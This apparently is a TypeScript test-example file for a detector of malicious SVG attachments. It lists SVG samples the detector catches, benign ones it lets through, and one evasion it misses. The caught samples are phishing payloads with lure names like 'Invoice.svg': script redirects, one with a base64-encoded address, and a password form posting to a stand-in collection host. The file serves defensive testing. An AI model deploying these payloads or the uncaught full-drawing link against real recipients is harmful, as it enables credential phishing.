import type { Examples } from "@doorward/core";
import { encodeBase64 } from "../../text/example-bytes.ts";
import { makeDrawing } from "../example-pages.ts";

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    {
      name: "a redirect",
      delivered: true,
      files: {
        "Voice message.svg": makeDrawing(`<script>window.location.href = "https://landing.example/a"</script>`),
      },
    },
    {
      name: "a redirect whose address is encoded",
      delivered: true,
      files: {
        "Document.svg": makeDrawing(
          `<script>location.replace(atob("${encodeBase64("https://landing.example/login/a")}"))</script>`,
        ),
      },
    },
    {
      name: "a form inside of the drawing",
      delivered: true,
      files: {
        "Invoice.svg": makeDrawing(
          `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.example/in"><input type="password" name="p"/></form></foreignObject><script>1</script>`,
        ),
      },
    },
  ],
  misses: [
    {
      name: "a logo with a style",
      why: "It has no script.",
      delivered: true,
      files: { "logo.svg": makeDrawing("<style>circle { fill: teal }</style>") },
    },
    {
      name: "a chart whose script shows values",
      why: "It changes the drawing and leads nowhere.",
      delivered: true,
      files: {
        "chart.svg": makeDrawing(
          `<script>document.querySelector("circle").onclick = function () { document.querySelector("text").textContent = "40 %" }</script><text>?</text>`,
        ),
      },
    },
    {
      name: "a diagram with links",
      why: "Links are seen for what they are, and a person clicks them.",
      delivered: true,
      files: { "plan.svg": makeDrawing(`<a href="https://docs.example/plan"><text>Plan</text></a>`) },
    },
  ],
  evasions: [
    {
      name: "a link over the whole drawing",
      caughtBy: "nothing",
      delivered: true,
      files: {
        "Voice message.svg": makeDrawing(`<a href="https://landing.example/a"><rect width="100" height="100"/></a>`),
      },
    },
  ],
};
